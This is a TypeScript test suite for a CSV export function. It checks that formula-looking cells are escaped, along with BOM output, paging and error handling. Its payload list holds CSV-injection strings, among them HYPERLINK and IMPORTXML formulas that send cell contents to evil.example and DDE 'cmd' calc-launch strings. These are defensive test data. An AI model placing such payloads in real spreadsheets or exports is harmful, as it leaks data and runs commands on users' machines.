import fc from 'fast-check';
import { parse as parseCsv } from 'papaparse';
import { expect, it } from 'vitest';
import { writeCsv, type CsvCell, type CsvRow } from './writeCsv.ts';

async function* pagesOf(...pages: readonly (readonly CsvRow[])[]): AsyncGenerator<readonly CsvRow[]> { yield* pages; }
const write = (columns: readonly string[], ...pages: readonly (readonly CsvRow[])[]): Promise<string> => new Response(writeCsv(columns, pagesOf(...pages))).text();
/** What a reader of CSV makes of a cell that was written. `Response.text` has taken the mark off. */
const readBack = async (cell: CsvCell): Promise<string> => (parseCsv(await write(['a', 'b'], [[cell, 'end']]), { delimiter: ',' }).data as string[][])[1]![0]!;

const FORMULA = /^(?:"*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n])/;
/** What was written, without the apostrophes that were put in. */
const bare = (cell: string): string => cell.replace(/(^|[\t\r\n;])'(?="*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n])/g, '$1');
const PAYLOADS = [
  '=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\n=1', '＝1+1', '－1', '=HYPERLINK("https://evil.example?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!D2',
  '=IMPORTXML(CONCAT("https://evil.example/", A1), "//a")', '+1-555-0100', '-', '=',
];

it.each(PAYLOADS)('makes text of %j', async (payload) => {
  expect(await readBack(payload)).toBe(`'${payload.replace('\t=', "\t'=").replace('\r=', "\r'=").replace('\n=', "\n'=")}`);
});

it.each(['hello;=1+1', 'hello;"=1+1"', 'hello\n=1+1', 'a\t@SUM(1)', 'x;+1;-2', 'x;＝1', 'x\r"-1'])('makes text of it where the file is taken apart at semicolons or tabs, and quotes inside of a cell are none: %j', async (payload) => {
  const [, row] = (await write(['a', 'b'], [['first', payload]])).split(/\r\n(?=first)/) as [string, string];
  expect(row.split(/[;\t\r\n]/).map((cell) => cell.replace(/^"*/, '')).filter((cell) => FORMULA.test(cell))).toEqual([]);
  expect(bare(await readBack(payload))).toBe(payload);
});

it('leaves numbers, booleans and what is absent alone', async () => {
  expect(await write(['n', 'flag', 'none', 'zero'], [[-12.5, true, undefined, 0]])).toBe('n,flag,none,zero\r\n-12.5,true,,0\r\n');
});

it('writes whatever text it is given so that a reader gets it back, and no cell begins like a formula', async () => {
  const text = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' }), fc.stringMatching(/^[=+\-@\t\r\n,";' a1|!]{0,12}$/), fc.constantFrom(...PAYLOADS, '<script>hit()</script>', '"', '""', ',', ' a ', '\uFEFF', "'"));
  await fc.assert(fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), async (rows) => {
    const well = rows.map((row) => row.map((cell) => cell.toWellFormed()));
    const [, ...read] = parseCsv(await write(['a', 'b'], well), { delimiter: ',', newline: '\r\n' }).data as string[][];
    const plain = (table: readonly (readonly string[])[]): readonly (readonly string[])[] => table.map((row) => row.map(bare));
    expect(plain(read.slice(0, -1))).toEqual(plain(well));
    expect(read.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
    expect(read.flat().flatMap((cell) => cell.split(/[\t\r\n;]/)).filter((cell) => FORMULA.test(cell))).toEqual([]);
  }), { numRuns: 400 });
});

it('begins with the mark that says UTF-8, and writes page after page', async () => {
  const bytes = new Uint8Array(await new Response(writeCsv(['词'], pagesOf([['甲']], [], [['乙']]))).arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(new TextDecoder().decode(bytes)).toBe('词\r\n甲\r\n乙\r\n');
});

it('breaks off, and does not end as if it were whole, where reading fails', async () => {
  async function* failing(): AsyncGenerator<readonly CsvRow[]> {
    yield [['one']];
    throw new Error('a shard is away');
  }
  await expect(new Response(writeCsv(['a'], failing())).text()).rejects.toThrow('a shard is away');
});
